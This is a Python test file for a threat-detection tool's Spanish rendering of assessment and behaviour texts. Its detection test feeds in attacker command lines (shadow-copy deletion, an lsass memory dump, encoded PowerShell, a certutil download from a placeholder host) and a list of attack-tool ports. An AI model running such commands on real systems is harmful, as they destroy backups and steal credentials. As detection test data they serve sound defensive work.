"""What an assessment says is said in Spanish as far as it is ours."""

import re
from dataclasses import replace

import pytest

from cybervault.assessments.conclude import told
from cybervault.detection.behaviours import behaviours_of
from cybervault.domain.assessments import Assessment, Part, Sign
from cybervault.domain.observables import parse_observable
from cybervault.domain.telemetry import read_telemetry
from cybervault.faces.language import said
from cybervault.faces.v3.sayings import Sayings, summary_of
from tests.assessments.made import ASSESSMENT, WEIGHING

PART = Part(parse_observable("203.0.113.42"), WEIGHING)
OTHER = Part(parse_observable("198.51.100.7"), WEIGHING)
# Words of English that no Spanish sentence has, names of rules and programs aside.
ENGLISH = re.compile(r"\b(the|is|of|an|outside|address|which|fired|and|was|port)\b", re.IGNORECASE)
TOOLS = (1337, 1604, 3460, 4444, 4782, 5552, 6606, 6666, 6667, 7707, 8808, 12345, 27374, 31337, 50050, 9001, 445)
COMMANDS = (
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "vssadmin delete shadows /all",
    "rundll32 comsvcs.dll, MiniDump 624 lsass.dmp full", "certutil -urlcache -f http://x y",
)  # fmt: skip


def of_telemetry(*reasons: str) -> Assessment:
    signs = tuple(Sign(f"s{number}", 40.0, reason) for number, reason in enumerate(reasons))
    summary = told("Malicious", ASSESSMENT.score, reasons)
    return replace(ASSESSMENT, parts=(PART, OTHER), signs=signs, summary=summary)


def test_of_telemetry_each_reason_is_said_and_the_whole_is_made_of_them() -> None:
    assessment = of_telemetry(
        "Rule: Odd port.",
        f"Seen ip:203.0.113.42: {WEIGHING.summary}",
        "A further tactic of an attack was seen.",
        "Rule: Fourth.",
    )
    spoken = Sayings(assessment, "es")
    assert spoken.summary() == (
        f"Malicioso, 92 de 100. Regla: Odd port. Visto ip:203.0.113.42: {summary_of(PART, 'es')} "
        "Se vio otra táctica de un ataque."
    )
    assert [spoken.reason(one) for one in assessment.signs][3] == "Regla: Fourth."
    english = Sayings(assessment, "en")
    assert (english.summary(), english.reason(assessment.signs[0])) == (assessment.summary, "Rule: Odd port.")


def test_of_an_indicator_it_is_weighed_anew_and_what_is_not_ours_stays() -> None:
    alone = replace(ASSESSMENT, parts=(PART,), summary=WEIGHING.summary)
    assert Sayings(alone, "es").summary() == summary_of(PART, "es")
    assert summary_of(PART, "en") == WEIGHING.summary
    assert Sayings(replace(alone, summary="As somebody wrote it."), "es").summary() == "As somebody wrote it."
    nothing = "Nothing that we know speaks against it, and nothing for it."
    assert "a su favor" in Sayings(replace(ASSESSMENT, parts=(), signs=(), summary=nothing), "es").summary()


@pytest.mark.parametrize(
    ("english", "spanish"),
    [
        (
            ("Malicious, 73 of 100. The rule Odd fired 3 times on the host pc-7", " at 2026-01-31 12:00:00"),
            ("Malicioso, 73 de 100. La regla Odd se activó 3 veces en el equipo pc-7", " el 2026-01-31 a las 12:00:00"),
        ),
        (
            ("Suspicious, 47 of 100. The rule Odd fired once on the user ACME\\eve", " from 2026-01-31 to 2026-02-01"),
            ("Sospechoso, 47 de 100. La regla Odd se activó una vez con el usuario ACME\\eve",
             " del 2026-01-31 al 2026-02-01"),
        ),
    ],
)  # fmt: skip
def test_what_batches_find_is_said(english: tuple[str, str], spanish: tuple[str, str]) -> None:
    whole = "".join(english) + ", in a batch of telemetry."
    assert said(whole, "es") == "".join(spanish) + ", en un lote de telemetría."


def test_all_that_one_event_may_show_is_said() -> None:
    connections: list[dict[str, object]] = [{"dst_ip": "8.8.4.4", "port": port} for port in TOOLS]
    connections += [{"dst_ip": "9.9.9.9", "port": 2000 + number} for number in range(20)]
    connections += [{"dst_ip": f"8.8.{number}.4", "port": 8081} for number in range(120)]
    events: list[dict[str, object]] = [
        {"process_name": "svchost.exe", "process_path": "C:\\x\\svchost.exe", "network_connections": connections},
        {"process_name": "mshta.exe", "network_connections": connections[:1]},
    ]
    events += [{"process_name": "x.exe", "command_line": command} for command in COMMANDS]
    found = {one for event in events for one in behaviours_of(read_telemetry("endpoint_telemetry", event))}
    assert {one.name for one in found} >= {
        "tool_port", "tor_port", "smb_outside", "service_host_connects_out", "proxy_binary_connects_out", "many_ports",
        "many_hosts", "wrong_folder", "encoded_powershell", "shadow_copy_deletion", "process_memory_dump",
        "certutil_download",
    }  # fmt: skip
    assert [one.reason for one in found if ENGLISH.search(said(one.reason, "es"))] == []
